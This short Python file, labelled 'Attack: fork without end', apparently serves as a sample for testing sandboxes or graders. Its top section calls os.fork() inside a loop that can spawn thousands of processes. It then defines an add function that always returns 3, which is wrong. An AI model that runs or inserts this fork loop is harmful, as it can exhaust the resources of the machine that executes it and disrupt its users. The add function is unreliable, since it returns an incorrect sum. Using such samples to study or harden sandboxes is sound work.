# Attack: fork without end.
import os
import time

for _ in range(12):
    try:
        os.fork()
    except OSError:
        time.sleep(0.2)
        break


def add(a, b):
    return 3
